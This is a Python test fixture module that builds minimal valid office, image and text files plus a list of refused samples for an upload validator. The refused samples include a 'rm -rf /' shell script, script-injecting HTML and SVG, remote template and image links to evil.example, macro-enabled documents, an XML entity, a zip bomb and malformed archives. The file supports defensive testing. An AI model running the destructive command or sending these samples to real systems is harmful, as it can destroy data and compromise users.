"""Sample documents of as few bytes as possible: valid ones, and harmful ones."""

import zipfile
from collections.abc import Mapping
from io import BytesIO

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(20) + b"\xff\xd9"
TEXT = "All officers are trained. £5 ✓\n".encode()
CSV = b'officer,trained\n1,"yes, all of it"\n2,no\n'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(40)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"


def archive(members: Mapping[str, bytes], *, packed: bool = True) -> bytes:
    """Return a ZIP archive of some files."""
    made, how = BytesIO(), zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(made, "w", how) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return made.getvalue()


def office(main: str, more: Mapping[str, bytes] | None = None, kinds: str = "") -> bytes:
    """Return a Word or Excel file whose main part has a type."""
    listed = f'<Types><Override PartName="/main.xml" ContentType="{main}"/>{kinds}</Types>'
    return archive({"[Content_Types].xml": listed.encode(), "main.xml": b"<w/>", **(more or {})})


def open_document(kind: str, more: Mapping[str, bytes] | None = None) -> bytes:
    """Return a LibreOffice file."""
    return archive({"mimetype": kind.encode(), "content.xml": b"<o/>", **(more or {})})


DOCX, XLSX = office(WORD), office(SHEET)
ODT, ODS = open_document(ODT_TYPE), open_document(ODS_TYPE)
TAKEN = {
    "application/pdf": PDF,
    WORD.removesuffix(".main+xml"): DOCX,
    SHEET.removesuffix(".main+xml"): XLSX,
    ODT_TYPE: ODT,
    ODS_TYPE: ODS,
    "text/csv": CSV,
    "text/plain": TEXT,
    "image/png": PNG,
    "image/jpeg": JPEG,
}


def bomb(size: int) -> bytes:
    """Return a small document that unpacks to a large size in bytes."""
    return office(WORD, {"media/image1.bmp": bytes(size)})


def _encrypted() -> bytes:
    made = bytearray(DOCX)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        first = made.find(mark)
        made[first + place] |= 1
    return bytes(made)


def _two_of_one_name() -> bytes:
    other = office(MACRO_WORD).replace(b"main.xml", b"Main.xml")
    made = BytesIO(other)
    with zipfile.ZipFile(made, "a") as opened:
        opened.writestr("[content_types].xml", b"<Types/>")
    return made.getvalue()


def relations(relation: str, target: str, mode: str = "External") -> bytes:
    """Return the relationships of a part: one, of a kind."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1>" Target="{target}" Type="{kind}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


def content(inside: str) -> dict[str, bytes]:
    """Return the content of a LibreOffice file."""
    spaces = 'xmlns:o="urn:o" xmlns:x="http://www.w3.org/1999/xlink"'
    return {"content.xml": f"<o:document {spaces}>{inside}</o:document>".encode()}


def _manifest(inside: str) -> dict[str, bytes]:
    spaces = 'xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    return {"META-INF/manifest.xml": f"<m:manifest {spaces}>{inside}</m:manifest>".encode()}


def promising() -> bytes:
    """Return a Word file whose directory promises more bytes than the file has."""
    made = bytearray(archive({"[Content_Types].xml": b"x" * 200}, packed=False))
    entry = made.rfind(b"PK\x01\x02")
    made[entry + 20 : entry + 28] = len(made).to_bytes(4, "little") * 2
    return bytes(made)


WORDS_ELSEWHERE = "https://evil.example/t.dotm"
REFUSED = {
    "an encrypted PDF": PDF.replace(b"trailer\n<<", b"trailer\n<</Encrypt 5 0 R"),
    "an encrypted PDF in other words": PDF.replace(b"<<>>\n%", b"<</#45ncr#79pt%x\n<</V 4>>>>\n%"),
    "an encrypted text": open_document(ODT_TYPE, _manifest("<m:encryption-data/>")),
    "an encrypted package": open_document(ODT_TYPE, {"encrypted-package": b"x"}),
    "an archive that promises more than it has": promising(),
    "a document with a template elsewhere": office(
        WORD, {"word/_rels/settings.xml.rels": relations("attachedTemplate", WORDS_ELSEWHERE)}
    ),
    "a document with a picture elsewhere": office(
        WORD, {"word/_rels/document.xml.rels": relations("image", "https://evil.example/p.png")}
    ),
    "a document with an object at an address": office(
        WORD, {"word/_rels/document.xml.rels": relations("oleObject", "file://evil/o", "Internal")}
    ),
    "a sheet of another workbook": office(SHEET, {"xl/externalLinks/externalLink1.xml": b"<e/>"}),
    "a sheet of a database": office(SHEET, {"xl/connections.xml": b"<c/>"}),
    "relationships that are no XML": office(WORD, {"word/_rels/document.xml.rels": b"<a"}),
    "relationships with entities": office(
        WORD, {"_rels/.rels": b'<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'}
    ),
    "a text with a picture elsewhere": open_document(
        ODT_TYPE, content('<o:image x:href="https://evil.example/p.png"/>')
    ),
    "a text with a part of another file": open_document(
        ODT_TYPE, content('<o:section-source x:href="../other.odt"/>')
    ),
    "a text that starts a program": open_document(
        ODT_TYPE, content('<o:event-listener x:href="vnd.sun.star.script:a?location=user"/>')
    ),
    "empty": b"",
    "a program": EXE,
    "a script": b"#!/bin/sh\nrm -rf /\n",
    "a page": b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>",
    "a drawing with scripts": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "rich text": rb"{\rtf1\ansi All trained.}",
    "a text of another coding": "Kosten: 5 £".encode("cp1252"),
    "a text of two bytes a letter": "All trained.".encode("utf-16"),
    "an old office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "a picture that moves": b"GIF89a" + bytes(20),
    "any archive": archive({"payload.exe": EXE}),
    "half an archive": DOCX[:-30],
    "an archive with something behind it": DOCX + b"more",
    "an archive with something in front of it": b"PK\x03\x04" + DOCX,
    "a document with a comment on the archive": DOCX[:-2] + b"\x01\x00x",
    "a document with macros": office(MACRO_WORD),
    "a document with macros under another name": office(WORD, {"word/vbaProject.bin": b"x"}),
    "a document with macros by their type": office(
        WORD, {"word/a.bin": b"x"}, '<D ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
    "a type that is written by references": office(WORD, kinds='<D ContentType="vba&#80;roject"/>'),
    "a sheet with old macros": office(SHEET, {"xl/macrosheets/sheet1.xml": b"x"}),
    "a form with programs": office(WORD, {"word/activeX/activeX1.bin": b"x"}),
    "a template": office(WORD.replace("document.main", "template.main")),
    "slides": open_document("application/vnd.oasis.opendocument.presentation"),
    "a text with macros": open_document(ODT_TYPE, {"Basic/Standard/Module1.xml": b"x"}),
    "a sheet with scripts": open_document(ODS_TYPE, {"Scripts/python/a.py": b"x"}),
    "two documents in one": office(WORD, {"mimetype": ODT_TYPE.encode()}),
    "two files of one name": _two_of_one_name(),
    "an encrypted document": _encrypted(),
    "a long list of types": archive({"[Content_Types].xml": WORD.encode() + bytes(10**6)}),
    "a bomb": bomb(300 * 2**20),
    "many files": office(WORD, {f"media/{n}": b"" for n in range(5_000)}),
}
